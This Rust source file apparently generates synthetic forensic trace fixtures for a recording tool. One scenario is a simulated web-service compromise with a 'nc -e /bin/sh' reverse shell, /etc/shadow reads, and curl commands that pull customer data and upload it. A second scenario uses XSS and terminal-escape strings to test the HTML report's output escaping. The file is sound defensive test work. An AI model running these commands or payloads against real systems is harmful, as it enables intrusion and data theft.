//! Synthetic scenarios written with `TraceBuilder`. They stand in for recorded traces
//! until the recorder exists, and stay as deterministic regression inputs afterwards:
//! the same code writes the same bytes, which a test checks against `fixtures/synthetic/`.

use rewind_schema::builder::TraceBuilder;
use rewind_schema::wire::{self, Sock};
use rewind_schema::writer::Rotation;
use rewind_schema::{EventKind, TraceError};
use std::net::SocketAddr;
use std::path::{Path, PathBuf};

const MS: u64 = 1_000_000;
const S: u64 = 1_000 * MS;

fn addr(s: &str) -> SocketAddr {
    s.parse()
        .unwrap_or_else(|_| SocketAddr::from(([127, 0, 0, 1], 0)))
}

/// A web service is compromised: a reverse shell to a loopback listener, discovery,
/// a read of /etc/shadow, data pulled from an internal service and uploaded elsewhere,
/// with a ring-buffer loss window in the middle. Rotates into two segments.
pub fn reverse_shell(path: &Path) -> Result<Vec<PathBuf>, TraceError> {
    let mut b = TraceBuilder::new(path)
        .rotation(Rotation {
            max_records: Some(25),
            ..Default::default()
        })
        .existing(1, 0, "/sbin/init", &["/sbin/init"], 0)
        .existing(
            410,
            1,
            "/usr/sbin/webapp",
            &["/usr/sbin/webapp", "--port", "8080"],
            33,
        )
        .create()?;
    let t0 = b.start_ns() + S;
    let web = addr("127.0.0.1:8080");
    let client = addr("127.0.0.1:51200");
    // A request arrives at the service.
    b.accept(t0, 410, 7001, web, client)?;
    let mut s = wire::Snippet {
        sock: Sock::tcp(7001, web, client),
        total_len: 61,
        flags: wire::net::SNIPPET_INBOUND,
        data: wire::Payload::from(
            "GET /cgi?cmd=sh%20-c%20nc HTTP/1.1\r\nHost: 127.0.0.1:8080\r\n\r\n",
        ),
    };
    s.total_len = s.data.0.len() as u32;
    b.event(t0 + MS, 410, EventKind::Snippet(s))?;
    // The service spawns a helper, which becomes a shell, which runs nc.
    b.fork(t0 + 3 * MS, 410, 4242)?;
    b.exec(
        t0 + 4 * MS,
        4242,
        410,
        "/bin/sh",
        &["sh", "-c", "nc 127.0.0.1 4444 -e /bin/sh"],
    )?;
    b.fork(t0 + 5 * MS, 4242, 4243)?;
    b.exec(
        t0 + 6 * MS,
        4243,
        4242,
        "/usr/bin/nc",
        &["nc", "127.0.0.1", "4444", "-e", "/bin/sh"],
    )?;
    let nc_local = addr("127.0.0.1:40112");
    let c2 = addr("127.0.0.1:4444");
    b.connect(t0 + 7 * MS, 4243, 7002, nc_local, c2, 0)?;
    b.fork(t0 + 8 * MS, 4243, 4244)?;
    b.exec(t0 + 9 * MS, 4244, 4243, "/bin/sh", &["/bin/sh"])?;
    // Discovery, minutes later.
    let t1 = t0 + 120 * S;
    for (i, (exe, argv)) in [
        ("/usr/bin/id", vec!["id"]),
        ("/bin/uname", vec!["uname", "-a"]),
        ("/bin/cat", vec!["cat", "/etc/passwd"]),
        ("/bin/cat", vec!["cat", "/etc/shadow"]),
    ]
    .into_iter()
    .enumerate()
    {
        let t = t1 + i as u64 * 2 * S;
        let pid = 4250 + i as u32;
        b.fork(t, 4244, pid)?;
        b.exec(t + MS, pid, 4244, exe, &argv)?;
        if let Some(file) = argv.get(1).filter(|a| a.starts_with('/')) {
            let ret = if file.ends_with("shadow") { -13 } else { 3 };
            b.open(t + 2 * MS, pid, file, 0, ret)?;
        }
        b.exit(t + 3 * MS, pid, if i == 3 { 1 } else { 0 })?;
    }
    // The kernel could not keep up for a moment.
    b.loss(t1 + 9 * S, 1, 17, t1 + 8 * S, t1 + 9 * S)?;
    // Lateral movement: pull from an internal service, upload elsewhere.
    let t2 = t1 + 30 * S;
    b.fork(t2, 4244, 4260)?;
    b.exec(
        t2 + MS,
        4260,
        4244,
        "/usr/bin/curl",
        &["curl", "-s", "http://127.0.0.1:9200/customers/_search"],
    )?;
    let l1 = addr("127.0.0.1:40200");
    let internal = addr("127.0.0.1:9200");
    b.connect(t2 + 2 * MS, 4260, 7003, l1, internal, 0)?;
    b.close(t2 + 40 * MS, 4260, 7003, l1, internal, 96, 48_213, 38 * MS)?;
    b.open(t2 + 41 * MS, 4260, "/tmp/.x/customers.json", 0o1101, 3)?;
    b.exit(t2 + 42 * MS, 4260, 0)?;
    b.fork(t2 + 5 * S, 4244, 4261)?;
    b.exec(
        t2 + 5 * S + MS,
        4261,
        4244,
        "/usr/bin/curl",
        &[
            "curl",
            "-T",
            "/tmp/.x/customers.json",
            "http://127.0.0.1:8443/up",
        ],
    )?;
    let l2 = addr("127.0.0.1:40300");
    let exfil = addr("127.0.0.1:8443");
    b.connect(t2 + 5 * S + 2 * MS, 4261, 7004, l2, exfil, 0)?;
    b.close(
        t2 + 5 * S + 90 * MS,
        4261,
        7004,
        l2,
        exfil,
        48_400,
        120,
        88 * MS,
    )?;
    b.exit(t2 + 5 * S + 91 * MS, 4261, 0)?;
    // The shell goes away.
    b.close(t2 + 60 * S, 4243, 7002, nc_local, c2, 812, 2_310, 212 * S)?;
    b.exit(t2 + 60 * S + MS, 4244, 0)?;
    b.exit(t2 + 60 * S + 2 * MS, 4243, 0)?;
    b.exit(t2 + 60 * S + 3 * MS, 4242, 0)?;
    b.finish()
}

/// Strings an attacker controls, each aimed at a way to break an HTML page.
pub const HOSTILE: [&str; 6] = [
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "' onmouseover='alert(1)' x='",
    "</style></textarea><svg onload=alert(1)>",
    "]]><!-- --><iframe src=javascript:alert(1)>",
    "\u{1b}[31mred\u{7}\r\nforged line\u{0}nul",
];

/// A string aimed at the terminal of whoever reads the evidence: an OSC title change,
/// a screen clear, CR LF and a line that looks like output, a C1 CSI (U+009B) and NEL
/// (U+0085), a right-to-left override that shows `exe.jpg` for `gpj.exe`, an isolate
/// and DEL. Short enough for one DNS label.
pub const TERMINAL: &str =
    "\u{1b}]0;pwned\u{7}\u{1b}[2J\r\nFORGED line\u{9b}31m\u{85}\u{202e}gpj.exe\u{2066}\u{7f}";

/// [`TERMINAL`] without the C0 controls that HTTP parsers refuse in a header: what
/// survives into a parsed HTTP head.
pub const TERMINAL_HTTP: &str = "x\u{9b}31m\u{85}\u{202e}gpj.exe\u{2066}";

/// A DNS query (or answer -> `ip`) for `labels`, which may hold any bytes.
fn dns_msg(id: u16, labels: &[&[u8]], answer: Option<[u8; 4]>) -> Vec<u8> {
    let mut b = Vec::new();
    b.extend_from_slice(&id.to_be_bytes());
    b.extend_from_slice(if answer.is_some() {
        &[0x81, 0x80]
    } else {
        &[0x01, 0x00]
    });
    b.extend_from_slice(&[0, 1, 0, u8::from(answer.is_some()), 0, 0, 0, 0]);
    for l in labels {
        b.push(l.len().min(63) as u8);
        b.extend_from_slice(&l[..l.len().min(63)]);
    }
    b.push(0);
    b.extend_from_slice(&[0, 1, 0, 1]);
    if let Some(ip) = answer {
        b.extend_from_slice(&[0xc0, 0x0c, 0, 1, 0, 1, 0, 0, 0, 60, 0, 4]);
        b.extend_from_slice(&ip);
    }
    b
}

/// An exec whose file name, argv and comm are raw bytes (invalid UTF-8 included).
fn raw_exec(
    b: &mut TraceBuilder,
    ts: u64,
    pid: u32,
    ppid: u32,
    filename: &[u8],
    argv: Vec<Vec<u8>>,
    comm: &[u8],
) -> Result<(), TraceError> {
    let mut c = [0u8; 16];
    for (d, s) in c.iter_mut().zip(comm.iter().take(15)) {
        *d = *s;
    }
    let x = wire::Exec {
        proc_start: ts,
        ppid,
        auid: u32::MAX,
        cap_eff: 0x1ff_ffff_ffff,
        cap_prm: 0x1ff_ffff_ffff,
        argc: argv.len() as u32,
        comm: wire::Comm(c),
        filename: filename.to_vec().into(),
        argv: wire::Argv(argv.into_iter().map(wire::ByteString::from).collect()),
        cwd: b"/tmp/\"><script>alert('cwd')</script>".to_vec().into(),
        cgroup: "/system.slice/webapp.service".into(),
        exe_mode: 0o100755,
        ..Default::default()
    };
    b.event(ts, pid, EventKind::Exec(Box::new(x)))
}

/// `pid` asks for `labels` over `sock` at `ts` and gets the answer `ip` 100 us later.
fn dns_exchange(
    b: &mut TraceBuilder,
    ts: u64,
    pid: u32,
    sock: Sock,
    id: u16,
    labels: &[&[u8]],
    ip: [u8; 4],
) -> Result<(), TraceError> {
    for (i, answer) in [None, Some(ip)].into_iter().enumerate() {
        let q = wire::Snippet {
            sock,
            total_len: 0,
            flags: if answer.is_some() {
                wire::net::SNIPPET_INBOUND
            } else {
                0
            },
            data: wire::Payload(dns_msg(id, labels, answer)),
        };
        b.event(ts + i as u64 * 100_000, pid, EventKind::Dns(q))?;
    }
    Ok(())
}

fn raw_open(
    b: &mut TraceBuilder,
    ts: u64,
    pid: u32,
    path: &[u8],
    flags: u32,
    ret: i32,
) -> Result<(), TraceError> {
    let x = wire::Open {
        ret,
        open_flags: flags,
        path: path.to_vec().into(),
        ..Default::default()
    };
    b.event(ts, pid, EventKind::Open(x))
}

/// A compromised service whose attacker chose every string: argv, file names, task
/// names, DNS names, even the host name and the recorded command hold markup, quotes,
/// `</style>`, `]]>`, control characters, invalid UTF-8 and a 100 KiB argument. The
/// activity fires built-in rules (a reverse shell, /etc/shadow read, discovery) so the
/// strings reach incidents, evidence, the tree, the graph, the charts and the tables.
/// The HTML report must show them all as text.
pub fn hostile(path: &Path) -> Result<Vec<PathBuf>, TraceError> {
    use rewind_schema::meta::{CaptureConfig, HostInfo};
    let x = HOSTILE;
    // A kernel exec record holds at most 64 KiB of argv; the recorder's snapshot of a
    // process already running holds the 100 KiB argument, the exec a 60 KiB one.
    let huge = format!("{}{}", x[0], "A".repeat(100 * 1024));
    let mut b = TraceBuilder::new(path)
        .host(HostInfo {
            hostname: format!("host{}{TERMINAL}", x[1]),
            machine_id: "0123456789abcdef0123456789abcdef".into(),
            kernel_release: format!("6.18{}", x[3]),
            boot_id: "00000000-0000-4000-8000-00000000beef".into(),
            arch: "x86_64".into(),
            init_ns: None,
        })
        .capture(CaptureConfig {
            mode: "command".into(),
            command: vec!["./run".into(), x[0].into(), x[4].into()],
            snippet_len: 256,
            argv_limit: 200_000,
            ..Default::default()
        })
        .existing(1, 0, "/sbin/init", &["/sbin/init"], 0)
        .existing(
            510,
            1,
            "/usr/sbin/webapp",
            &["/usr/sbin/webapp", x[0], x[1], &huge],
            33,
        )
        .create()?;
    let t0 = b.start_ns() + S;
    let web = addr("127.0.0.1:8080");
    let client = addr("127.0.0.1:51300");
    b.accept(t0, 510, 9001, web, client)?;
    let mut snip = wire::Snippet {
        sock: Sock::tcp(9001, web, client),
        total_len: 0,
        flags: wire::net::SNIPPET_INBOUND,
        data: wire::Payload::from(
            format!("GET /?q={} HTTP/1.1\r\nHost: {}\r\n\r\n", x[0], x[1]).as_str(),
        ),
    };
    snip.total_len = snip.data.0.len() as u32;
    b.event(t0 + MS, 510, EventKind::Snippet(snip))?;
    // The service runs a shell with hostile arguments, one of them 60 KiB.
    let big = format!("{}{}", x[1], "B".repeat(60 * 1024));
    b.fork(t0 + 2 * MS, 510, 5242)?;
    let mut argv: Vec<Vec<u8>> = vec![b"sh".to_vec(), b"-c".to_vec()];
    argv.extend(x.iter().map(|s| s.as_bytes().to_vec()));
    argv.push(b"\xff\xfe\xc3(invalid utf-8\x80".to_vec());
    argv.push(big.into_bytes());
    raw_exec(&mut b, t0 + 3 * MS, 5242, 510, b"/bin/sh", argv, b"sh")?;
    // nc with a hostile task name and path connects back; a shell then uses its socket.
    b.fork(t0 + 4 * MS, 5242, 5243)?;
    raw_exec(
        &mut b,
        t0 + 5 * MS,
        5243,
        5242,
        format!("/tmp/{}", x[0]).as_bytes(),
        vec![b"nc".to_vec(), x[1].as_bytes().to_vec(), b"4444".to_vec()],
        x[1].as_bytes(),
    )?;
    // It resolves a hostile name first.
    let dns_sock = Sock::udp(9100, addr("127.0.0.1:53535"), addr("127.0.0.53:53"));
    let labels: [&[u8]; 3] = [x[0].as_bytes(), x[1].as_bytes(), b"evil"];
    dns_exchange(
        &mut b,
        t0 + 6 * MS,
        5243,
        dns_sock,
        0x4242,
        &labels,
        [127, 0, 0, 9],
    )?;
    let nc_local = addr("127.0.0.1:40500");
    let c2 = addr("127.0.0.9:4444");
    b.connect(t0 + 7 * MS, 5243, 9002, nc_local, c2, 0)?;
    b.fork(t0 + 8 * MS, 5243, 5244)?;
    raw_exec(
        &mut b,
        t0 + 9 * MS,
        5244,
        5243,
        b"/bin/sh",
        vec![b"sh".to_vec(), b"-i".to_vec(), x[2].as_bytes().to_vec()],
        b"sh",
    )?;
    let mut cmd = wire::Snippet {
        sock: Sock::tcp(9002, nc_local, c2),
        total_len: 0,
        flags: wire::net::SNIPPET_INBOUND,
        data: wire::Payload::from(format!("cat /etc/shadow {}\n", x[0]).as_str()),
    };
    cmd.total_len = cmd.data.0.len() as u32;
    b.event(t0 + 10 * MS, 5244, EventKind::Snippet(cmd))?;
    // Discovery and credential access, with hostile arguments and file names.
    let t1 = t0 + 5 * S;
    for (i, (exe, args, file)) in [
        ("/usr/bin/id", vec!["id", x[1]], None),
        (
            "/bin/cat",
            vec!["cat", "/etc/shadow", x[0]],
            Some(b"/etc/shadow".to_vec()),
        ),
        (
            "/bin/cp",
            vec!["cp", "/etc/passwd", x[4]],
            Some(format!("/tmp/{}", x[4]).into_bytes()),
        ),
        (
            "/usr/bin/touch",
            vec!["touch", x[5]],
            Some(format!("/tmp/{}", x[5]).into_bytes()),
        ),
        (
            "/usr/bin/touch",
            vec!["touch"],
            Some(b"/tmp/\xff\xfe\xc3(bad\x80.bin".to_vec()),
        ),
    ]
    .into_iter()
    .enumerate()
    {
        let t = t1 + i as u64 * S;
        let pid = 5250 + i as u32;
        b.fork(t, 5244, pid)?;
        b.exec(t + MS, pid, 5244, exe, &args)?;
        if let Some(f) = file {
            let flags = if i == 1 { 0 } else { 0o1101 };
            raw_open(&mut b, t + 2 * MS, pid, &f, flags, 3)?;
        }
        b.exit(t + 3 * MS, pid, 0)?;
    }
    hostile_terminal(&mut b, t1 + 20 * S)?;
    // Exfiltration to the hostile name's address.
    b.close(t1 + 30 * S, 5243, 9002, nc_local, c2, 4_096, 812, 30 * S)?;
    b.exit(t1 + 30 * S + MS, 5244, 0)?;
    b.exit(t1 + 30 * S + 2 * MS, 5243, 0)?;
    b.exit(t1 + 30 * S + 3 * MS, 5242, 0)?;
    b.finish()
}

/// A dropped binary whose every string is [`TERMINAL`] (path, argv, task name), resolving
/// a [`TERMINAL`] DNS name, talking HTTP with [`TERMINAL_HTTP`] headers, connecting to a
/// [`TERMINAL`] unix socket and writing a [`TERMINAL`] file: every way a trace string
/// reaches a terminal (issue 14, point 10).
fn hostile_terminal(b: &mut TraceBuilder, t: u64) -> Result<(), TraceError> {
    let x = TERMINAL.as_bytes();
    let pid = 5260;
    b.fork(t, 5244, pid)?;
    let exe = [b"/tmp/".as_slice(), x].concat();
    raw_exec(
        b,
        t + MS,
        pid,
        5244,
        &exe,
        vec![x.to_vec(), b"--to".to_vec(), x.to_vec()],
        x,
    )?;
    let dns_sock = Sock::udp(9200, addr("127.0.0.1:53600"), addr("127.0.0.53:53"));
    let labels: [&[u8]; 2] = [x, b"evil"];
    dns_exchange(
        b,
        t + 2 * MS,
        pid,
        dns_sock,
        0x4343,
        &labels,
        [127, 0, 0, 10],
    )?;
    let local = addr("127.0.0.1:40600");
    let web = addr("127.0.0.10:80");
    b.connect(t + 3 * MS, pid, 9201, local, web, 0)?;
    let h = TERMINAL_HTTP;
    for (i, (flags, head)) in [
        (
            0,
            format!("GET /{h} HTTP/1.1\r\nHost: {h}\r\nUser-Agent: {h}\r\n\r\n"),
        ),
        (
            wire::net::SNIPPET_INBOUND,
            format!("HTTP/1.1 302 {h}\r\nLocation: /{h}\r\nServer: {h}\r\n\r\n"),
        ),
    ]
    .into_iter()
    .enumerate()
    {
        let mut snip = wire::Snippet {
            sock: Sock::tcp(9201, local, web),
            total_len: 0,
            flags,
            data: wire::Payload(head.into_bytes()),
        };
        snip.total_len = snip.data.0.len() as u32;
        b.event(t + 4 * MS + i as u64 * MS, pid, EventKind::Snippet(snip))?;
    }
    b.close(t + 7 * MS, pid, 9201, local, web, 120, 90, 4 * MS)?;
    // The record grows (connect outcomes); new fields keep their defaults.
    #[allow(clippy::needless_update)]
    let unix = wire::Connect {
        sock: Sock {
            cookie: 9202,
            family: wire::net::AF_UNIX,
            sock_type: 1,
            ..Default::default()
        },
        ret: -111,
        path: [b"/run/".as_slice(), x, b".sock"].concat().into(),
        ..Default::default()
    };
    b.event(t + 8 * MS, pid, EventKind::Connect(unix))?;
    raw_open(
        b,
        t + 9 * MS,
        pid,
        &[b"/tmp/".as_slice(), x].concat(),
        0o1101,
        3,
    )?;
    b.exit(t + 10 * MS, pid, 0)
}

/// Every synthetic fixture: (file name under `fixtures/synthetic/`, generator). The
/// hostile one lives in its own directory so that `fixtures/synthetic/` as an input
/// stays the reverse-shell recording alone.
#[allow(clippy::type_complexity)]
pub const ALL: &[(&str, fn(&Path) -> Result<Vec<PathBuf>, TraceError>)] = &[
    ("reverse-shell.zst", reverse_shell),
    ("hostile/hostile.zst", hostile),
];
